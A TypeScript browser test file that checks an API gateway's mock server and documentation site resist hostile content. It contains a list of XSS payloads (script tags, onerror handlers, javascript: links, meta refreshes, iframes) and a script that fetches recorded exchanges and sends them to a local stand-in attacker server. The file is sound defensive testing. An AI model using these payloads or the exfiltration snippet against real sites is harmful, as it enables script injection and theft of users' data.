import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { createContract } from '../../src/contract/contract.ts';
import { createGateway, type Mount, serve } from '../../src/gateway/gateway.ts';
import { createMock } from '../../src/mock/mock.ts';
import { createSite } from '../../src/report/site.ts';
import { appears, describeInBrowser, launchBrowser, visit } from '../support/browser.ts';
import { documentOf } from '../support/document.ts';
import { call } from '../support/server.ts';

/** The attacker's server, and the URLs of the requests that reached it. */
const startTrap = async () => {
  const reached: string[] = [];
  const server = createServer(({ url = '' }, outgoing) => {
    if (!url.includes('favicon')) reached.push(url);
    outgoing.end('<title>elsewhere</title>');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    reached,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((closed) => server.close(closed));
    },
  };
};

/** A mock with a site, for a document with this description. Its responses are this page, and a script at a path. */
const serveHostile = async (description: string, page: string, script = '/evil.js') => {
  const answering = (type: string, example: string) => ({
    get: { responses: { 200: { description: 'ok', content: { [type]: { example } } } } },
  });
  const contract = createContract(
    documentOf({
      info: { title: 'Hello', version: '1', description },
      servers: [{ url: '/' }],
      paths: {
        '/page': answering('text/html', page),
        [script]: answering('text/javascript', 'window.pwned = 1'),
      },
    }),
  );
  const mount: Mount = { name: 'test', contract, upstream: createMock(contract) };
  const mounts = new Map([['test', mount]]);
  return serve(createGateway({ mounts, site: createSite(mounts) }));
};

const stealing = (trap: string): string =>
  `<title>mock</title><script>fetch("/_contracts/exchanges").then((r) => r.text()).then((t) => { location = "${trap}/?" + encodeURIComponent(t) })</script>`;

describeInBrowser('strangers in a browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => void (await browser?.close()));

  test('a description leads its page nowhere, and runs nothing', async () => {
    await using trap = await startTrap();
    const attacks = [
      `<iframe srcdoc="<script>top.location='/test/page'</script>"></iframe>`,
      '<iframe src="/test/page"></iframe>',
      '<meta http-equiv=refresh content="0;url=/test/page">',
      `<META HTTP-EQUIV="refresh" CONTENT="0;url=${trap.url}/refresh">`,
      `<link rel="preconnect" href="${trap.url}/link"><base href="${trap.url}/base">`,
      '<script>window.pwned = 1</script><script src="/test/evil.js"></script>',
      '<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>',
      '<object data="/test/page"></object><embed src="/test/page">',
      `<form action="${trap.url}/form"><button>send</button></form>`,
      '<a href="javascript:window.pwned = 1">a link</a> [another link](javascript:window.pwned=1)',
    ];
    await using hostile = await serveHostile(attacks.join('\n\n'), stealing(trap.url));
    const { page } = await visit(browser, `${hostile.url}/test.html`);
    await appears(page.getByTestId('search-trigger').filter({ hasNotText: 'Loading' }));
    for (const link of await page.getByText(/a link|another link/).all()) await link.click({ force: true });
    await page.evaluate('new Promise((done) => setTimeout(done, 500))');
    expect(page.url()).toBe(`${hostile.url}/test.html`);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(trap.reached).toEqual([]);
  });

  test("a path of a contract takes the place of no script of the page's", async () => {
    await using hostile = await serveHostile('Hello', '', '/redoc.standalone.js');
    const { page, problems } = await visit(browser, `${hostile.url}/test.html`);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(problems.join()).toContain("'integrity' attribute");
  });

  test('a page of a mock reads nothing of what was recorded', async () => {
    await using trap = await startTrap();
    await using hostile = await serveHostile('Hello', stealing(trap.url));
    const { page } = await visit(browser, `${hostile.url}/test/page`);
    expect(await page.title()).toBe('mock');
    expect(await page.evaluate('origin')).toBe('null');
    const read = 'fetch("/_contracts/exchanges").then(() => "read", () => "refused")';
    expect(await page.evaluate(read)).toBe('refused');
    expect(trap.reached).toEqual([]);
  });

  test('a page of another origin reads and changes nothing of ours', async () => {
    await using elsewhere = await startTrap();
    await using hostile = await serveHostile('Hello', '');
    await call(hostile, { path: '/test/page' });
    const { page } = await visit(browser, elsewhere.url);
    for (const init of ['{}', '{ method: "DELETE" }', '{ mode: "no-cors", method: "POST" }']) {
      const tried = `fetch("${hostile.url}/_contracts/exchanges", ${init}).then((r) => r.text(), () => '')`;
      expect(await page.evaluate(tried)).toBe('');
    }
    expect((await call(hostile, { path: '/_contracts/exchanges' })).json).toHaveLength(1);
  });
});
